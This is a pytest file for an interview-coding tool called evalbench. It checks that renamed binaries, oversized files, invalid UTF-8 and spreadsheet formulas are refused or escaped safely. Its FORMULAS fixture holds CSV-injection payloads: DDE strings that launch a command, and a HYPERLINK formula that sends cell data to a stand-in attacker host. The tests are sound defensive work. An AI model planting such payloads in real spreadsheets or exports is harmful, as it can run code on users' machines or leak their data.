"""Hand-picked hostile files: a renamed binary, a 200 MB transcript, broken UTF-8, spreadsheet formulas.

Zip-slip, bombs, billion laughs and external entities in .qdpx archives are in
``test_refi_hostile.py``; YAML alias bombs in ``test_codebook_files.py``.
"""

from __future__ import annotations

import csv
import gzip
import tracemalloc
import zipfile

import pytest

from evalbench.codebook import CodebookError, load_codebook
from evalbench.errors import IngestError, UserError
from evalbench.ingest import parse_file
from evalbench.ingest.files import DEFAULT_MAX_BYTES
from evalbench.project import Project

# --- a .docx that is really something else ---------------------------------------------------
_BINARIES = {
    "png": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10" + bytes(range(256)) * 4,
    "elf": b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + bytes(range(256)) * 4,
    "pdf": b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n",
    "gzip": gzip.compress(b"Interviewer: hello\n" * 100),
    "text": b"Interviewer: this is plain text saved with the wrong extension\nP1: yes\n",
}


@pytest.mark.parametrize("kind", sorted(_BINARIES))
def test_docx_that_is_a_renamed_binary_is_refused_in_one_line(tmp_path, kind):
    path = tmp_path / "interview.docx"
    path.write_bytes(_BINARIES[kind])
    with pytest.raises(IngestError) as info:
        parse_file(path)
    assert str(info.value).startswith("interview.docx: ")
    assert "\n" not in str(info.value)


def test_xlsx_renamed_to_docx_is_refused(tmp_path):
    """A real Office zip of the wrong kind (a spreadsheet) is not a Word transcript."""
    path = tmp_path / "interview.docx"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("xl/workbook.xml", "<workbook/>")
    with pytest.raises(IngestError, match=r"^interview\.docx: corrupt Word file"):
        parse_file(path)


def test_folder_import_with_a_renamed_binary_keeps_the_good_files(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "a.txt").write_text("Interviewer: What helped?\nP01: The huddles helped.\n")
    (folder / "b.docx").write_bytes(_BINARIES["elf"])
    with Project.init(tmp_path / "p.evb") as proj:
        report = proj.import_paths([folder])
        assert report.imported == ["a.txt"]
        assert [name for name, _ in report.failed] == ["b.docx"]
        assert [d.name for d in proj.documents()] == ["a.txt"]


# --- a 200 MB transcript -----------------------------------------------------------------------
def _huge(path, size=200 * 1024 * 1024):
    with open(path, "wb") as fh:  # sparse: no disk blocks, written instantly
        fh.truncate(size)
    return path


def test_200_mb_text_file_is_refused_by_its_size_without_being_read(tmp_path, monkeypatch):
    path = _huge(tmp_path / "huge.txt")
    assert path.stat().st_size > DEFAULT_MAX_BYTES
    tracemalloc.start()
    try:
        with pytest.raises(IngestError, match=r"^huge\.txt: file is 209\.7 MB, over the 50 MB limit"):
            parse_file(path)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 5 * 1024 * 1024, f"refusing the file allocated {peak / 1e6:.0f} MB"


def test_200_mb_file_in_a_folder_import_fails_alone(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    _huge(folder / "huge.vtt")
    (folder / "ok.txt").write_text("Interviewer: What helped?\nP01: Leaders came to the huddles.\n")
    with Project.init(tmp_path / "p.evb") as proj:
        report = proj.import_paths([folder])
        assert report.imported == ["ok.txt"]
        assert report.failed and report.failed[0][0] == "huge.vtt" and "MB limit" in report.failed[0][1]


# --- invalid UTF-8 ----------------------------------------------------------------------------
_BROKEN_UTF8 = (
    "Interviewer: What got in the way?\nP01: caf\u00e9 and na\u00efve ".encode()
    + b"\xff\xfe\xc3\x28 \xe2\x82 \xed\xa0\x80 overlong \xc0\xaf and \x81\x8d\x8f\x90\x9d end\n"
)


def test_invalid_utf8_transcript_imports_without_losing_text(tmp_path):
    """Bytes that are not UTF-8 fall back to a single-byte decoding: nothing dropped, nothing replaced."""
    path = tmp_path / "broken.txt"
    path.write_bytes(_BROKEN_UTF8)
    doc = parse_file(path)
    assert "\ufffd" not in doc.text
    assert doc.text.endswith("end")
    assert [doc.text[t.start : t.end][:4] for t in doc.turns] == ["What", "caf\u00c3"]


def test_invalid_utf8_with_a_forced_encoding_names_the_byte(tmp_path):
    path = tmp_path / "broken.txt"
    path.write_bytes(_BROKEN_UTF8)
    with pytest.raises(IngestError, match=r"^broken\.txt: cannot be decoded as utf-8 \(byte \d+"):
        parse_file(path, encoding="utf-8")


def test_invalid_utf8_codebook_is_refused_in_one_line(tmp_path):
    path = tmp_path / "codebook.yaml"
    path.write_bytes(b"evalbench_codebook: 1\ncodes:\n  - id: a\n    name: caf\xe9\xff\n")
    with pytest.raises(CodebookError, match=r"codebook\.yaml: not UTF-8 text \(byte \d+\)"):
        load_codebook(path)


def test_utf8_bom_with_invalid_bytes_is_refused(tmp_path):
    path = tmp_path / "bom.txt"
    path.write_bytes(b"\xef\xbb\xbfInterviewer: hi\nP1: \xff\xfe\n")
    with pytest.raises(IngestError, match=r"^bom\.txt: has a utf-8 byte-order mark but invalid utf-8"):
        parse_file(path)


# --- formulas in transcripts and memos must not run in a spreadsheet ------------------------------
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
]


@pytest.fixture
def formula_project(tmp_path):
    """A transcript whose participant turns are formulas, coded with formula memos."""
    path = tmp_path / "in" / "=evil.txt"
    path.parent.mkdir()
    lines = ["Interviewer: What would you type into Excel?"]
    lines += [f"P01: {f}" if i % 2 == 0 else f"Interviewer: {f}" for i, f in enumerate(FORMULAS)]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    proj = Project.init(tmp_path / "study.evb", coder="alex")
    proj.add_codes(load_codebook_codes())
    report = proj.import_paths([path])
    assert report.ok, report.failed
    doc = proj.documents()[0]
    for turn in proj.turns(doc.id):
        text = proj.document_text(doc.id)[turn.start : turn.end]
        if text in FORMULAS:
            proj.add_coding(
                doc.id,
                turn.start,
                turn.end,
                "cfir2.inner.culture",
                valence="barrier",
                memo=FORMULAS[(FORMULAS.index(text) + 1) % len(FORMULAS)],
            )
    assert len(proj.codings()) == len(FORMULAS)
    yield proj
    proj.close()


def load_codebook_codes():
    from evalbench.codebook import load_codebook_source

    return load_codebook_source("cfir2")


def _is_escaped(value) -> bool:
    return not (isinstance(value, str) and value.startswith(("=", "+", "-", "@", "\t", "\r")))


def test_formulas_are_escaped_in_the_xlsx_export(formula_project, tmp_path):
    from openpyxl import load_workbook

    out = formula_project.export("xlsx", tmp_path / "report.xlsx")
    wb = load_workbook(out)
    seen = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                assert _is_escaped(cell.value), f"{ws.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str) and cell.value.lstrip("'") in FORMULAS:
                    seen.append(cell.value)
    # every excerpt text and every memo is there, escaped and otherwise unchanged
    assert sorted(v[1:] for v in seen) == sorted(FORMULAS * 2)
    names = {c.value for c in wb["Excerpts"]["A"]}
    assert "'=evil.txt" in names


def test_formulas_are_escaped_in_the_csv_export(formula_project, tmp_path):
    out = formula_project.export("csv", tmp_path / "report.csv")
    files = sorted(tmp_path.glob("report*.csv"))
    assert out in files and len(files) >= 3
    seen = []
    for path in files:
        with open(path, encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                for value in row:
                    assert _is_escaped(value), f"{path.name}: {value!r}"
                    if value.lstrip("'") in FORMULAS:
                        seen.append(value)
    assert sorted(v[1:] for v in seen) == sorted(FORMULAS * 2)


def test_formulas_in_a_bulk_coding_sheet_stay_text(formula_project, tmp_path):
    """Codings loaded from a spreadsheet keep a formula memo as text, and export it escaped."""
    sheet = tmp_path / "codings.csv"
    with open(sheet, "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["document", "quote", "code", "coder", "valence", "memo"])
        w.writerow(["=evil.txt", "What would you type", "cfir2.inner.culture", "sam", "neutral", "=1+1"])
    assert formula_project.code_from_csv(sheet) == 1
    assert [c.memo for c in formula_project.codings(coder="sam")] == ["=1+1"]
    out = formula_project.export("csv", tmp_path / "again.csv", all_coders=True)  # alex's and now sam's
    text = out.read_text(encoding="utf-8-sig")
    assert "'=1+1" in text and ",=1+1" not in text


def test_hostile_codebook_text_is_escaped_in_the_codebook_sheet(tmp_path, project):
    from openpyxl import load_workbook

    project.update_code("inner.priority", definition="=cmd|' /C calc'!A0", keywords=["@evil"])
    wb = load_workbook(project.export("xlsx", tmp_path / "r.xlsx"))
    values = [c.value for row in wb["Codebook"].iter_rows() for c in row]
    assert "'=cmd|' /C calc'!A0" in values and "'@evil" in values
    assert all(_is_escaped(v) for v in values)


def test_user_errors_are_the_only_failures_for_a_bad_export_target(project, tmp_path):
    with pytest.raises(UserError):
        project.export("xlsx", tmp_path / "missing-folder" / "r.xlsx")


# --- issue 18: temporary files and permissions of everything written ------------------------------
def test_a_write_removes_stale_parts_of_its_target_only(tmp_path):
    from evalbench.codebook.files import atomic_write

    target = tmp_path / "report.md"
    stale = [tmp_path / ".report.md.0a1b2c3d.part", tmp_path / ".report.md.0a1b2c3e.tmp"]
    others = [
        tmp_path / ".report.md.backup.0a1b2c3d.part",
        tmp_path / ".report.mdx.0a1b2c3d.part",
        tmp_path / "report.md.0a1b2c3d.part",
    ]
    for path in stale + others:
        path.write_text("half")
    atomic_write(target, "# Findings\n")
    assert target.read_text() == "# Findings\n"
    assert not any(p.exists() for p in stale)
    assert all(p.exists() for p in others)


def test_a_part_still_being_written_is_left_alone(tmp_path):
    from evalbench.safewrite import atomic_write, replacing

    target = tmp_path / "report.docx"
    with replacing(target) as fh:  # a second export of the same file, still running
        fh.write(b"first")
        atomic_write(target, b"second")  # finishes meanwhile
        assert target.read_bytes() == b"second"
    assert target.read_bytes() == b"first"  # the first writer's rename still worked
    assert not list(tmp_path.glob(".report.docx.*"))


@pytest.mark.parametrize("umask", [0o022, 0o077, 0o002])
def test_written_files_get_the_users_ordinary_permissions(tmp_path, umask):
    import os

    from evalbench.codebook.files import atomic_write
    from evalbench.refi.archive import zip_writer

    old = os.umask(umask)
    try:
        atomic_write(tmp_path / "new.md", "x")
        with zip_writer(tmp_path / "new.qdpx") as zw:
            zw.add("a.txt", b"x")
        ordinary = tmp_path / "ordinary.txt"
        ordinary.write_text("x")
    finally:
        os.umask(old)
    want = ordinary.stat().st_mode & 0o777
    assert (tmp_path / "new.md").stat().st_mode & 0o777 == want
    assert (tmp_path / "new.qdpx").stat().st_mode & 0o777 == want
    private = tmp_path / "private.md"
    private.write_text("old")
    private.chmod(0o600)
    atomic_write(private, "new")
    assert private.stat().st_mode & 0o777 == 0o600  # replacing a file keeps its permissions


def test_a_failed_write_says_so_in_one_line_and_leaves_nothing(tmp_path):
    from evalbench.codebook.files import atomic_write

    folder = tmp_path / "report.md"
    folder.mkdir()  # the target is a folder: the rename fails
    with pytest.raises(UserError) as info:
        atomic_write(folder, "x")
    assert str(info.value).startswith(str(folder)) and "\n" not in str(info.value)
    assert list(tmp_path.iterdir()) == [folder]


def test_command_line_text_that_is_not_utf8_is_stored_not_a_traceback(tmp_path, project):
    """A name typed in a latin-1 terminal reaches Python as lone surrogates, which SQLite refuses."""
    import subprocess
    import sys

    path = str(project.path)
    project.close()
    done = subprocess.run(
        [sys.executable, "-m", "evalbench.cli", "codebook", "rename", path, "inner.culture", b"Cult\xffure"],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    assert "not UTF-8 text; read as 'Cultÿure'" in done.stderr
    with Project.open(path) as proj:
        assert proj.code("inner.culture").name == "Cultÿure"


def test_damage_inside_a_text_value_is_reported_and_recovered(tmp_path, project):
    """Bytes that are not UTF-8 inside a stored text pass SQLite's page checks; they must not become tracebacks."""
    from click.testing import CliRunner

    from evalbench.cli import main

    path = project.path
    project.close()  # the last connection closing writes the WAL into the file
    data = path.read_bytes()
    at = data.index(b"Honestly, competing priorities")
    path.write_bytes(data[:at] + b"\xff\xfe\xdb" + data[at + 3 :])
    runner = CliRunner()
    for argv in (
        ["check", str(path)],
        ["search", str(path), "priorities"],
        ["export", str(path), "-o", str(tmp_path / "r.md")],
    ):
        result = runner.invoke(main, argv)
        assert not isinstance(result.exception, UnicodeDecodeError), argv
        if result.exit_code:
            lines = [line for line in result.stderr.splitlines() if line.startswith("evalbench:")]
            assert len(lines) <= 1 and ("damaged" in result.stderr or "UTF-8" in result.stderr), result.stderr
    assert runner.invoke(main, ["check", str(path)]).exit_code == 1
    out = tmp_path / "recovered.evb"
    assert runner.invoke(main, ["recover", str(path), "-o", str(out)]).exit_code == 0
    with Project.open(out) as proj:
        assert "\ufffd" in proj.document_text(proj.documents()[0].id)


@pytest.mark.parametrize("cell", [131_073, 400_000])
def test_every_sheet_reads_cells_longer_than_pythons_csv_limit(tmp_path, project, cell):
    """Codings and themes sheets share one reader (evalbench.csvsheet): a long cell is a cell, not _csv.Error."""
    themes = tmp_path / "themes.csv"
    themes.write_text("theme,category,description\nTime,Barriers," + "x" * cell + "\n", encoding="utf-8")
    from click.testing import CliRunner

    from evalbench.cli import main

    path = str(project.path)
    project.close()
    result = CliRunner().invoke(main, ["themes", "import", path, str(themes)])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert result.exit_code == 0, result.output
    sheet = tmp_path / "codings.csv"
    sheet.write_text("document,quote,code,memo\np01.txt,competing priorities,inner.priority," + "m" * cell + "\n")
    result = CliRunner().invoke(main, ["code", path, "--from-csv", str(sheet)])
    assert result.exit_code == 0, result.output
    with Project.open(path) as proj:
        assert len(proj.codings()[0].memo) == cell


def test_library_failures_are_said_in_words_without_class_names():
    import lzma
    import zlib

    from evalbench.errors import describe_failure, one_line

    class InvalidXmlError(Exception):  # python-docx's, for a w:val="maybe"
        pass

    class PdfStreamError(Exception):
        pass

    digits = ValueError("Exceeds the limit (4300 digits) for integer string conversion: value has 5000 digits")
    cases = {
        digits: "number too long",
        RecursionError("maximum recursion depth exceeded"): "nesting too deep",
        InvalidXmlError("value must be one of '1', '0', 'true' or 'false', got 'maybe'"): "XML value",
        PdfStreamError("Stream has ended unexpectedly"): "ends too early",
        zlib.error("Error -3 while decompressing data"): "damaged compressed data",
        lzma.LZMAError("Corrupt input data"): "damaged compressed data",
        OverflowError("Python int too large to convert to C int"): "number too large",
    }
    for exc, words in cases.items():
        said = describe_failure(exc)
        assert words in said and type(exc).__name__ not in said, said
    escaped = one_line("bad\x1b[31mred\u202eevil\nnext\ud800")
    assert escaped == "bad\\x1b[31mred\\u202eevil next\\ud800"
    long = one_line("codings.csv: " + "x" * 5000 + " nothing was coded")
    assert len(long) == 400 and long.startswith("codings.csv: ") and long.endswith("nothing was coded")
